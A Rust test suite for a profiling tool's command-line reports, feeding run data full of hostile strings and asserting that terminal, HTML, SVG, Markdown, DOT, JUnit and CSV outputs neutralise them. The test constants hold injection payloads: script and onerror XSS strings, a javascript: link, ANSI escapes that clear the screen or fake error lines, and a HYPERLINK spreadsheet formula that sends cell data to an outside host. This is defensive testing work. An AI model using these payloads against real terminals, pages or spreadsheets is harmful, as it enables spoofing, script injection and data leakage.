//! A run whose every text is hostile: what reaches a terminal, a page, a table or another program stays a text.

use std::collections::BTreeMap;
use std::fs;
use std::path::Path;

use trueno_format::run_json::{Capture, Host, Joined, Producer, Program, RunJson};
use trueno_testing::full_of;

use crate::harness::Dir;

/// Clears the screen, sets a title, rings the bell, reverses text, ends lines in every way, and begins new ones.
const TERMINAL: &str = "a\x1b[2J\x1b]0;t\x07\u{9b}31m\u{202e}b\u{200f}\u{2028}c\r\nerror: fake\n::error::fake%0A\0\u{85}d\u{7f}";
/// Closes scripts, comments, sections, attributes, cells, code spans, labels and frames.
const MARKUP: &str = "</script><script>alert(1)</script>]]>--><img src=x onerror=alert(2)>\" onload=\"alert(3)' |`x`| [l](javascript:a) \"]; evil [label=\"x;y 7\\";
const FORMULA: &str = "=HYPERLINK(\"http://x/\"&A1,\"y\")";
const TEXTS: [&str; 3] = [TERMINAL, MARKUP, FORMULA];

fn facts() -> RunJson {
    let some = || Some(TERMINAL.to_owned());
    let all = || TEXTS.map(str::to_owned).to_vec();
    RunJson {
        producer: Producer {
            name: MARKUP.into(),
            version: TERMINAL.into(),
        },
        label: some(),
        program: Program {
            argv: all(),
            ..Program::default()
        },
        host: Host {
            name: some(),
            os: some(),
            kernel: Some(MARKUP.into()),
            arch: some(),
            cpu_model: Some(MARKUP.into()),
            microcode: some(),
            cpu_features: Some(all()),
            ..Host::default()
        },
        problems: all(),
        values: BTreeMap::from([
            (TERMINAL.to_owned(), MARKUP.to_owned()),
            ("device.0.name".into(), TERMINAL.into()),
        ]),
        capture: Some(Capture {
            level: TERMINAL.into(),
            cupti_path: some(),
            enabled: all(),
            refused: BTreeMap::from([(TERMINAL.to_owned(), MARKUP.to_owned())]),
            muted: all(),
            devices: all(),
            ..Capture::default()
        }),
        joined: vec![Joined {
            tool: TERMINAL.into(),
            file: MARKUP.into(),
            ..Joined::default()
        }],
        ..RunJson::default()
    }
}

fn hostile_run(dir: &Dir) -> String {
    let run = dir.join("a.run");
    full_of(&run, facts(), TEXTS);
    run.to_str().unwrap().to_owned()
}

/// Asserts that no character moves the cursor, and that no line begins with what the text contains.
#[track_caller]
fn check_lines(what: &str, text: &str) {
    let odd = |c: &char| {
        c.is_control() && *c != '\n'
            || matches!(
                c,
                '\u{202a}'..='\u{202e}' | '\u{200e}' | '\u{200f}' | '\u{2028}' | '\u{2029}'
            )
    };
    if let Some(odd) = text.chars().find(odd) {
        let at = text.find(odd).unwrap();
        let around: String = text[..at]
            .chars()
            .rev()
            .take(60)
            .collect::<Vec<_>>()
            .into_iter()
            .rev()
            .collect();
        panic!("{what}: {odd:?} behind {around:?}");
    }
    // At the very begin: a text that is wrapped goes on below its own begin.
    for line in text.lines() {
        assert!(!line.starts_with("error: fake"), "{what}: {line}");
        assert!(!line.starts_with("::error::fake"), "{what}: {line}");
    }
}

#[track_caller]
fn check_markup(what: &str, text: &str) {
    for raw in ["<script>alert", "<img src=x", "\" onload=\"alert"] {
        assert!(!text.contains(raw), "{what}: {raw}");
    }
}

#[test]
fn nothing_that_a_run_says_moves_a_terminal() {
    let dir = Dir::new();
    let run = &hostile_run(&dir);
    fs::write(dir.join("few.toml"), ASSERTIONS).unwrap();
    for args in [
        &["report", run][..],
        &["report", run, "-v"],
        &[
            "report",
            run,
            "--annotations",
            "github",
            "--fail-on",
            "info",
        ],
        &["report", run, "--markdown", "-"],
        &["report", run, "--json", "-"],
        &["report", run, "--format", "digest"],
        &["tree", run],
        &["tree", run, "--min-share", "0"],
        &["tree", run, "--format", "json"],
        &["info", run],
        &["info", run, "-v"],
        &["tables", run],
        &["tables", run, "bricks"],
        &["query", run, "SELECT * FROM bricks"],
        &["query", run, "SELECT * FROM threads"],
        &["query", run, "SELECT * FROM kernels"],
        &["query", run, "SELECT * FROM kernels", "--format", "json"],
        &["query", run, "SELECT * FROM ptx"],
        &["query", run, "SELECT name AS \"x\u{1b}[2J\" FROM bricks"],
        &["query", run, "SELECT \u{1b}[2J FROM bricks"],
        &["query", run, "SELECT * FROM \"no\u{1b}[2J\""],
        &["compare", run, run],
        &["compare", run, run, "--format", "markdown"],
        &["compare", run, run, "--format", "json"],
        &["info", run, "--format", "json"],
        &["tables", run, "--format", "json"],
        &["check", run, "--assert", "few.toml"],
        &[
            "check",
            run,
            "--assert",
            "few.toml",
            "--annotations",
            "github",
        ],
        &["check", run, "--assert", "few.toml", "--junit", "-"],
        &["check", run, "--golden", run],
        &["golden", "save", run, "-o", "a.golden.json"],
        &["golden", "show", "a.golden.json"],
        &["golden", "list", "."],
        &["export", "folded", run, "-o", "-"],
        &["export", "dot", run, "-o", "-"],
        &["ptx", run],
        &[
            "ptx",
            run,
            TERMINAL
                .trim_end_matches('\u{7f}')
                .split('\0')
                .next()
                .unwrap(),
        ],
        &["report", run, "--window", "iteration=99\u{1b}[2J"],
        &["report", "no\u{1b}[2J\nerror: fake.run"],
        &["info", run, "--no\u{1b}[2J\nerror: fake"],
        &["import", "no\u{1b}[2J\nerror: fake.json", "-o", "x.run"],
        &[
            "report",
            run,
            "--html",
            "no\u{1b}[2J\nerror: fake/page.html",
        ],
        &["report", run, "--set", "no\u{1b}[2J\nerror: fake.x=1"],
    ] {
        let output = dir.command_with_plugins(args).command.output().unwrap();
        let code = output.status.code();
        assert!(
            code.is_some_and(|code| code < 4),
            "{args:?}: {:?}",
            output.status
        );
        for stream in [&output.stdout, &output.stderr] {
            let text = std::str::from_utf8(stream).unwrap();
            check_lines(&args.join(" "), text);
        }
    }
}

const ASSERTIONS: &str = "[[assertion]]\nname = \"a\\u001B[2J\\nerror: fake\\n::error::fake%0A\"\ntype = \"span_count\"\nmax_spans = 1\n";

#[test]
fn nothing_that_a_run_says_is_markup() {
    let dir = Dir::new();
    let run = &hostile_run(&dir);
    fs::write(dir.join("few.toml"), ASSERTIONS).unwrap();
    let plain = dir.join("plain.run");
    full_of(&plain, RunJson::default(), ["one", "two", "three"]);
    let plain = plain.to_str().unwrap();
    let ends = |text: &str| text.matches("</script").count();
    for (hostile, usual) in
        [("hostile", run.as_str()), ("plain", plain)].map(|(name, run)| (name, run))
    {
        let page = format!("{hostile}.html");
        let report = ["--html", &page, "--charts", hostile, "--csv", hostile];
        dir.report(Path::new(usual), &report).exits(0);
        let against = format!("{hostile}.compare.html");
        // Three rows a name are too few to be compared.
        dir.command(&["compare", usual, usual, "--html", &against])
            .exits(3);
        let flames = format!("{hostile}.svg");
        dir.command(&["export", "flamegraph", usual, "-o", &flames])
            .exits(0);
    }
    for page in ["html", "compare.html", "svg"] {
        let text = dir.read(&format!("hostile.{page}"));
        check_markup(page, &text);
        assert_eq!(
            ends(&text),
            ends(&dir.read(&format!("plain.{page}"))),
            "{page}"
        );
    }
    for entry in fs::read_dir(dir.join("hostile")).unwrap() {
        let path = entry.unwrap().path();
        match path.extension().and_then(|end| end.to_str()) {
            Some("svg") => check_markup("chart", &fs::read_to_string(&path).unwrap()),
            Some("csv") => check_csv(&path),
            _ => {}
        }
    }
    let markdown = dir.report(Path::new(run), &["--markdown", "-"]).exits(0);
    check_tables(&markdown.stdout);
    let junit = dir
        .command(&["check", run, "--assert", "few.toml", "--format", "junit"])
        .exits(1);
    check_lines("junit", &junit.stdout);
    check_markup("junit", &junit.stdout);
    let chrome = dir.command(&["export", "chrome", run, "-o", "-"]).exits(0);
    chrome.json();
    let folded = dir.command(&["export", "folded", run, "-o", "-"]).exits(0);
    for line in folded.stdout.lines() {
        let (_, weight) = line.rsplit_once(' ').unwrap();
        assert!(weight.parse::<u64>().is_ok(), "{line}");
        assert!(
            !line.contains("x;y"),
            "a name is no frame of its own: {line}"
        );
    }
    let dot = dir.command(&["export", "dot", run, "-o", "-"]).exits(0);
    assert!(!dot.stdout.contains("x \"]; evil"), "{}", dot.stdout);
    for line in dot.stdout.lines() {
        let quotes = line.replace("\\\\", "").replace("\\\"", "");
        assert_eq!(quotes.matches('"').count() % 2, 0, "{line}");
    }
    let csv = dir.command(&[
        "query",
        run,
        "SELECT * FROM bricks",
        "--format",
        "csv",
        "-o",
        "b.csv",
    ]);
    csv.exits(0);
    check_csv(&dir.join("b.csv"));
    let exact = [
        "query",
        run,
        "SELECT name FROM bricks",
        "--format",
        "csv",
        "--csv-exact",
    ];
    dir.command(&exact).exits(0).stdout_has("\"=HYPERLINK(");
}

/// Asserts that all rows of a table have as many cells as its heading, and that none is HTML.
#[track_caller]
fn check_tables(markdown: &str) {
    let mut cells = None;
    for line in markdown.lines() {
        if !line.starts_with('|') {
            cells = None;
            continue;
        }
        let bars = line.replace("\\|", "").matches('|').count();
        assert_eq!(*cells.get_or_insert(bars), bars, "{line}");
    }
    // Quotes are no markup there.
    for raw in ["<script>alert", "<img src=x"] {
        assert!(!markdown.contains(raw), "markdown: {raw}");
    }
}

/// Asserts that no cell but a number begins like a formula.
#[track_caller]
fn check_csv(path: &Path) {
    let text = fs::read_to_string(path).unwrap();
    let (mut fields, mut field, mut quoted) = (Vec::new(), String::new(), false);
    for c in text.chars() {
        match c {
            '"' => quoted = !quoted,
            ',' | '\n' if !quoted => fields.push(std::mem::take(&mut field)),
            c => field.push(c),
        }
    }
    assert!(!quoted, "{}", path.display());
    for field in fields {
        let begins = field
            .trim_end()
            .starts_with(['=', '+', '-', '@', '\t', '\r']);
        let is_number = field.trim_end().parse::<f64>().is_ok();
        assert!(!begins || is_number, "{}: {field:?}", path.display());
    }
}
